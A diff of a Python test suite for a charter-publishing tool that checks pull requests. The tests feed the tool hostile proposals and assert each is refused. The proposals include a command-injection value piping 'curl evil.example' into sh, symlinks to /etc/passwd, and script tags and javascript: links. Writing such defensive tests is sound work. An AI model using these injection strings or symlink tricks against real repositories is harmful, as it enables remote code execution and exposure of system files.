@@ -9,8 +9,9 @@ import subprocess
 import pytest
 from markdown_it import MarkdownIt
 
-from builders import make_signatory, release_draft, write_charter, write_note, write_signatory
+from builders import FIRST, make_signatory, release_draft, write_charter, write_note, write_signatory
 from charterpress.cli import main
+from commands import commit_all, git, init_repository, run_charter
 from recorded import changed, payload
 
 PULL, ISSUE, RUN = "pull_request.opened", "issues.opened", "workflow_run.completed"
@@ -19,39 +20,33 @@ SHELL = '"; curl evil.example | sh #'
 # --- Pull requests -------------------------------------------------------------------------------------
 
 
-def git(folder, *arguments):
-    """Runs git in a folder, as nobody in particular."""
-    who = ("-c", "user.name=A", "-c", "user.email=a@b.example", "-c", "commit.gpgsign=false")
-    return subprocess.run(
-        ["git", "-C", str(folder), *who, *arguments], check=True, capture_output=True, text=True
-    ).stdout.strip()
-
-
 class Proposed:
     """A repository with a released charter and two signatories, and a proposal in a folder beside it."""
 
     def __init__(self, released, folder, capsys):
         self.repo, self.folder, self.capsys = folder / "repo", folder / "proposal", capsys
         shutil.copytree(released, self.repo)
-        self.base = git(self.repo, "rev-parse", "HEAD")
-        git(self.repo, "worktree", "add", "--quiet", "--detach", str(self.folder))
+        self.base = git("rev-parse", "HEAD", folder=self.repo)
+        git("worktree", "add", "--quiet", "--detach", str(self.folder), folder=self.repo)
 
     def commit(self, change):
-        """Makes the proposal, of what `change` does to its folder."""
-        change(self.folder)
-        git(self.folder, "commit", "--quiet", "--allow-empty", "--message", "y")
-        return git(self.folder, "rev-parse", "HEAD")
+        """Makes the proposal of what `change`, a shell line or a function, does to its folder or index."""
+        if isinstance(change, str):
+            subprocess.run(["sh", "-c", change], cwd=self.folder, check=True)
+        if isinstance(change, str) or change(self.folder) is None:
+            git("add", "--all", folder=self.folder)
+        git("commit", "--quiet", "--allow-empty", "--message", "y", folder=self.folder)
+        return git("rev-parse", "HEAD", folder=self.folder)
 
     def ran(self, *arguments):
-        """What a command says."""
-        code = main([*arguments])
-        said = self.capsys.readouterr()
-        assert said.err == ""
-        return code, said.out
+        """The exit code and output of a command, which reports no error of its own."""
+        code, out, err = run_charter(self.capsys, *arguments)
+        assert err == ""
+        return code, out
 
     def event(self, head=None, name=PULL, **values):
         """The file with the payload about it."""
-        head = head or git(self.folder, "rev-parse", "HEAD")
+        head = head or git("rev-parse", "HEAD", folder=self.folder)
         sides = {"pull_request__base__sha": self.base, "pull_request__head__sha": head}
         file = self.repo.parent / f"{name}.json"
         file.write_bytes(changed(name, **(sides if name == PULL else {}), **values))
@@ -64,7 +59,7 @@ class Proposed:
 
     def judged(self):
         """What `charter respond files` says."""
-        head = git(self.folder, "rev-parse", "HEAD")
+        head = git("rev-parse", "HEAD", folder=self.folder)
         return self.ran("respond", "files", "--since", "main", "--head", head, "--format", "github")
 
 
@@ -78,10 +73,8 @@ def released(tmp_path_factory):
     write_signatory(root, make_signatory("mole-club"))
     (repo / "docs").mkdir()
     (repo / "docs" / "about.md").write_text("About.\n")
-    git(repo, "init", "--quiet", "--initial-branch", "main")
-    git(repo, "config", "core.protectNTFS", "false")
-    git(repo, "add", "--all")
-    git(repo, "commit", "--quiet", "--message", "x")
+    init_repository(repo)
+    git("config", "core.protectNTFS", "false", folder=repo)
     return repo
 
 
@@ -93,43 +86,39 @@ def proposed(released, tmp_path, monkeypatch, capsys):
     return made
 
 
-def staged(change):
-    """`change`, and all files that it leaves."""
-
-    def changes(folder):
-        change(folder)
-        git(folder, "add", "--all")
-
-    return changes
-
-
-def indexed(*paths, mode="100644", words="x\n"):
+def indexed(*paths, mode="100644", words="x\n", before=lambda folder: None):
     """A change that puts files into the commit alone: no folder here could hold them."""
 
-    def changes(folder):
+    def change(folder):
+        before(folder)
+        git("add", "--all", folder=folder)
         name = "1" * 40
         if mode != "160000":
-            asked = ["git", "-C", str(folder), "hash-object", "-w", "--stdin"]
-            name = subprocess.run(
-                asked, input=words.encode(), capture_output=True, check=True
-            ).stdout.decode()
-        entries = [part for path in paths for part in ("--cacheinfo", f"{mode},{name.strip()},{path}")]
-        git(folder, "-c", "core.protectNTFS=false", "update-index", "--add", *entries)
+            command = ["git", "-C", str(folder), "hash-object", "-w", "--stdin"]
+            done = subprocess.run(command, input=words.encode(), capture_output=True, check=True)
+            name = done.stdout.decode().strip()
+        entries = [part for path in paths for part in ("--cacheinfo", f"{mode},{name},{path}")]
+        git("-c", "core.protectNTFS=false", "update-index", "--add", *entries, folder=folder)
+        return "indexed"
 
-    return changes
+    return change
 
 
-def first(folder):
-    """The file of a principle."""
-    return next(iter(sorted((folder / "charter" / "themes").glob("*/*-first.md"))))
+def edit(old, new, path=f"charter/{FIRST}"):
+    """A change of the bytes of a file."""
+
+    def change(folder):
+        data = (folder / path).read_bytes()
+        assert old in data
+        (folder / path).write_bytes(data.replace(old, new))
+
+    return change
 
 
 def strengthen(folder):
     """An honest change: another promise, and why."""
-    file = first(folder)
-    file.write_text(file.read_text().replace("every day.", "every hour."))
-    write_note(folder / "charter", file.stem, class_="commitment")
-    git(folder, "add", "--all")
+    edit(b"every day.", b"every hour.")(folder)
+    write_note(folder / "charter", "moorings-first", class_="commitment")
 
 
 def test_an_honest_proposal_is_answered(proposed):
@@ -164,7 +153,7 @@ def test_a_proposal_with_a_new_name_says_who_it_was(proposed):
         now = make_signatory("pier-club", website="https://mole-club.example/", formerly=("mole-club",))
         write_signatory(folder / "charter", now)
 
-    proposed.commit(staged(renamed))
+    proposed.commit(renamed)
     said = proposed.answer()[1]
     assert "\n1 organisation would get a new address: Pier club (was Mole club).\n" in said
     assert "would join the register" not in said
@@ -173,7 +162,8 @@ def test_a_proposal_with_a_new_name_says_who_it_was(proposed):
 
 
 def test_a_proposal_for_the_register_or_of_a_version_says_so(proposed):
-    proposed.commit(staged(lambda folder: write_signatory(folder / "charter", make_signatory("pier-club"))))
+    write_signatory(proposed.folder / "charter", make_signatory("pier-club"))
+    proposed.commit("git status --short")
     said = proposed.answer()[1]
     assert "No word of the charter changes.\n\n1 organisation would join the register: Pier club.\n" in said
 
@@ -181,7 +171,7 @@ def test_a_proposal_for_the_register_or_of_a_version_says_so(proposed):
         strengthen(folder)
         release_draft(folder / "charter", date="2025-03-01")
 
-    proposed.commit(staged(released))
+    proposed.commit(released)
     assert "It makes version 2.0.0, of the class commitment.\n" in proposed.answer()[1]
 
 
@@ -205,100 +195,36 @@ def test_the_built_site_is_linked_once_there_is_one(proposed, tmp_path):
     assert proposed.capsys.readouterr().err.startswith("error: event-moved: ")
 
 
-def edit_release(folder):
-    """Other words in what was signed."""
-    file = folder / "charter" / "releases" / "1.0.0.json"
-    file.write_text(file.read_text().replace("every day.", "now and then."))
-
-
-def link_charter(folder):
-    """The charter's folder leads elsewhere."""
-    (folder / "charter").rename(folder / "elsewhere")
-    (folder / "charter").symlink_to("elsewhere")
-
-
-def link_file(folder):
-    """A file of the charter leads elsewhere."""
-    first(folder).unlink()
-    first_path = folder / "charter" / "preamble.md"
-    first_path.unlink()
-    first_path.symlink_to("/etc/passwd")
-
-
-def touch_two(folder):
-    """Two entries that are there."""
-    for file in (folder / "charter" / "signatories").glob("*.yml"):
-        file.write_text(file.read_text() + "pledge: Ours.\n")
-
-
-def huge(folder):
-    """A principle of 2 MB."""
-    first(folder).write_text("x" * 2_000_000)
-
-
-def edit_words(old, new):
-    """A change of the first principle’s bytes."""
-
-    def changes(folder):
-        file = first(folder)
-        data = file.read_bytes()
-        assert old in data
-        file.write_bytes(data.replace(old, new))
-        git(folder, "add", "--all")
-
-    return changes
-
-
-def with_words(path, words="x\n"):
+def with_workflow(folder):
     """A file of the machine beside an honest change."""
-
-    def changes(folder):
-        strengthen(folder)
-        (folder / path).parent.mkdir(parents=True, exist_ok=True)
-        (folder / path).write_text(words)
-        git(folder, "add", "--all")
-
-    return changes
+    strengthen(folder)
+    (folder / ".github/workflows").mkdir(parents=True)
+    (folder / ".github/workflows/check.yml").write_text("x\n")
 
 
+UTF_16 = "*.md working-tree-encoding=UTF-16\n"
 FILES = {
-    "a workflow beside words": (with_words(".github/workflows/check.yml"), "machine-and-words"),
-    "settings that run a program, beside words": (
-        with_words("mkdocs.yml", "hooks: [x.py]\n"),
-        "machine-and-words",
-    ),
-    "the tool beside words": (with_words("hooks/events.py", "import os\n"), "machine-and-words"),
-    "a template beside words": (with_words("overrides/main.html"), "machine-and-words"),
-    "what is installed, beside words": (with_words("requirements.txt"), "machine-and-words"),
-    "a program that prepares, beside words": (with_words(".ci/setup"), "machine-and-words"),
-    "what git does to files": (with_words(".gitattributes", "* -diff\n"), "machine-and-words"),
+    "a workflow beside words": (with_workflow, "machine-and-words"),
     "what git does to files of the charter": (
-        lambda folder: (
-            strengthen(folder),
-            indexed("charter/.gitattributes", words="*.md working-tree-encoding=UTF-16\n")(folder),
-        ),
+        indexed("charter/.gitattributes", words=UTF_16, before=strengthen),
         "machine-and-words",
     ),
     "a repository of its own": (indexed("charter/themes/sub", mode="160000"), "submodule"),
-    "the folder as a link": (staged(link_charter), "symlink"),
-    "a link out of the repository": (staged(link_file), "symlink"),
-    "a device of Windows": (indexed("charter/themes/moorings/aux.md"), "name-reserved"),
-    "a stream of Windows": (indexed("charter/themes/x.md:y"), "name-reserved"),
+    "the folder as a link": ("mv charter elsewhere && ln -s elsewhere charter", "symlink"),
+    "a link out of the repository": ("ln -sf /etc/passwd charter/preamble.md", "symlink"),
     "a backslash": (indexed("charter\\..\\x.md"), "name-reserved"),
     "a twin in capital letters": (indexed("charter/Preamble.md"), "name-case"),
-    "a twin of a folder": (indexed("Charter/preamble.md"), "name-case"),
-    "a name turned round": (indexed("charter/themes/\u202egpj.md"), "name-hidden"),
     "a name that breaks the line": (indexed("docs/x\n::error::y.md"), "name-hidden"),
-    "a long name": (indexed(f"docs/{'x' * 250}.md"), "name-long"),
-    "a huge file": (staged(huge), "file-large"),
+    "a huge file": (f"head -c 2000000 /dev/zero | tr '\\0' x > charter/{FIRST}", "file-large"),
     "a huge page": (indexed("docs/x.md", words="x" * 2_000_000), "file-large"),
-    "a binary": (staged(lambda folder: first(folder).write_bytes(b"\0\1\2")), "file-binary"),
+    "a binary": (f"printf '\\0\\1\\2' > charter/{FIRST}", "file-binary"),
     "a file kept elsewhere": (
-        staged(lambda folder: first(folder).write_text("version https://git-lfs.github.com/spec/v1\n")),
+        f"echo version https://git-lfs.github.com/spec/v1 > charter/{FIRST}",
         "lfs-pointer",
     ),
     "301 files": (indexed(*(f"docs/{place}.md" for place in range(301))), "files-many"),
 }
+"""One proposal for each way that a file goes into a commit; tests/forges has every rule and name."""
 
 
 @pytest.mark.parametrize("case", FILES)
@@ -317,38 +243,22 @@ def test_a_hostile_file_is_refused_by_name(proposed, case):
     assert (code, f"({rule})" in said) == (1, True)
 
 
+RELEASE = "charter/releases/1.0.0.json"
 WORDS = {
-    "an edited release": (staged(edit_release), "release-digest"),
-    "a release with other ends of lines": (
-        staged(
-            lambda folder: (path := folder / "charter/releases/1.0.0.json").write_bytes(
-                path.read_bytes().replace(b"\n", b"\r\n")
-            )
-        ),
-        "release-form",
+    "an edited release": (edit(b"every day.", b"now and then.", RELEASE), "release-digest"),
+    "a release with other ends of lines": (edit(b"\n", b"\r\n", RELEASE), "release-form"),
+    "a deleted release": (f"rm {RELEASE}", "release-missing"),
+    "a renamed release": (f"mv {RELEASE} charter/releases/1.0.1.json", "release-name"),
+    "entries of two others": (
+        "for file in charter/signatories/*.yml; do echo 'pledge: Ours.' >> $file; done",
+        "signatory-others",
     ),
-    "a deleted release": (
-        staged(lambda folder: (folder / "charter/releases/1.0.0.json").unlink()),
-        "release-missing",
-    ),
-    "a renamed release": (
-        staged(
-            lambda folder: (folder / "charter/releases/1.0.0.json").rename(
-                folder / "charter/releases/1.0.1.json"
-            )
-        ),
-        "release-name",
-    ),
-    "entries of two others": (staged(touch_two), "signatory-others"),
-    "a deleted entry": (
-        staged(lambda folder: (folder / "charter/signatories/mole-club.yml").unlink()),
-        "signatory-removed",
-    ),
-    "half an accent": (edit_words(b"Moorings first", b"Moorings \xff"), "not-utf8"),
-    "a line that hides the next": (edit_words(b"every day.", b"never.\revery day."), "lone-cr"),
-    "letters that hide": (edit_words(b"every day.", "every\u200b day\u202e.".encode()), "zero-width"),
-    "a program in the text": (edit_words(b"every day.", b"<script>x</script>"), "html"),
-    "a link that runs": (edit_words(b"every day.", b"[x](javascript:x)"), "link-address"),
+    "a deleted entry": ("rm charter/signatories/mole-club.yml", "signatory-removed"),
+    "half an accent": (edit(b"Moorings first", b"Moorings \xff"), "not-utf8"),
+    "a line that hides the next": (edit(b"every day.", b"never.\revery day."), "lone-cr"),
+    "letters that hide": (edit(b"every day.", "every\u200b day\u202e.".encode()), "zero-width"),
+    "a program in the text": (edit(b"every day.", b"<script>x</script>"), "html"),
+    "a link that runs": (edit(b"every day.", b"[x](javascript:x)"), "link-address"),
     "a file of no kind": (indexed("charter/themes/moorings/x.exe"), "file-unexpected"),
 }
 
@@ -357,7 +267,7 @@ WORDS = {
 def test_a_hostile_word_is_refused_by_name(proposed, monkeypatch, case):
     change, rule = WORDS[case]
     proposed.commit(change)
-    git(proposed.folder, "checkout", "--quiet", "--force", "HEAD")
+    git("checkout", "--quiet", "--force", "HEAD", folder=proposed.folder)
     code, said = proposed.answer()
     assert (code, re.findall(rf"\(({rule})\)", said)[:1] or said) == (1, [rule])
     assert "root:" not in said
@@ -376,14 +286,13 @@ ACTING = (
 def test_no_word_of_a_proposal_acts_in_the_comment(proposed):
     def loud(folder):
         root = folder / "charter"
-        file = first(folder)
+        file = root / FIRST
         text = file.read_text().replace("every day.", f"every hour {ACTING}.")
         file.write_text(re.sub(r"(?m)^(title|summary): .*", rf"\1: '{ACTING[:60]}'", text))
         note = write_note(root, file.stem, class_="commitment")
         note.write_text(note.read_text() + f"\n{ACTING}\n")
         write_signatory(root, make_signatory("loud", name=ACTING, pledge=ACTING))
         (root / "themes" / "@everyone #1 ![x](y).md").write_text(ACTING)
-        git(folder, "add", "--all")
 
     proposed.commit(loud)
     code, said = proposed.answer()
@@ -398,10 +307,9 @@ def test_no_word_of_a_proposal_acts_in_the_comment(proposed):
 
 def test_only_what_a_proposal_touches_fails_it(proposed):
     (proposed.repo / "charter" / "signatories" / "odd.yml").write_text("name: [\n")
-    git(proposed.repo, "add", "--all")
-    git(proposed.repo, "commit", "--quiet", "--message", "z")
-    proposed.base = git(proposed.repo, "rev-parse", "HEAD")
-    git(proposed.folder, "checkout", "--quiet", "--detach", "main")
+    commit_all(proposed.repo)
+    proposed.base = git("rev-parse", "HEAD", folder=proposed.repo)
+    git("checkout", "--quiet", "--detach", "main", folder=proposed.folder)
     proposed.commit(strengthen)
     code, said = proposed.answer()
     assert (code, "odd.yml" in said) == (0, False)
@@ -547,22 +455,19 @@ def test_a_site_that_lost_an_address_is_not_published(tmp_path, capsys):
 
 def test_versions_without_a_tag_are_named_with_the_commit_that_took_them_in(tmp_path, capsys):
     root = write_charter(tmp_path)
-    git(tmp_path, "init", "--quiet", "--initial-branch", "main")
-    git(tmp_path, "add", "--all")
-    git(tmp_path, "commit", "--quiet", "--message", "x")
-    git(tmp_path, "switch", "--quiet", "--create", "release")
+    init_repository(tmp_path)
+    git("switch", "--quiet", "--create", "release", folder=tmp_path)
     release_draft(root, first=True)
     asked = ["--source", str(root), "respond", "tags"]
     assert main(asked) == 0
     assert capsys.readouterr().out == ""  # no commit has it yet
-    git(tmp_path, "add", "--all")
-    git(tmp_path, "commit", "--quiet", "--message", "on a branch")
-    git(tmp_path, "switch", "--quiet", "main")
-    git(tmp_path, "merge", "--quiet", "--no-ff", "--no-edit", "release")
-    commit = git(tmp_path, "rev-parse", "HEAD")
-    git(tmp_path, "commit", "--quiet", "--allow-empty", "--message", "later")
+    commit_all(tmp_path)
+    git("switch", "--quiet", "main", folder=tmp_path)
+    git("merge", "--quiet", "--no-ff", "--no-edit", "release", folder=tmp_path)
+    commit = git("rev-parse", "HEAD", folder=tmp_path)
+    git("commit", "--quiet", "--allow-empty", "--message", "later", folder=tmp_path)
     assert main(asked) == 0
     assert capsys.readouterr().out == f"1.0.0 {commit}\n"
-    git(tmp_path, "tag", "1.0.0")
+    git("tag", "1.0.0", folder=tmp_path)
     assert main(asked) == 0
     assert capsys.readouterr().out == ""
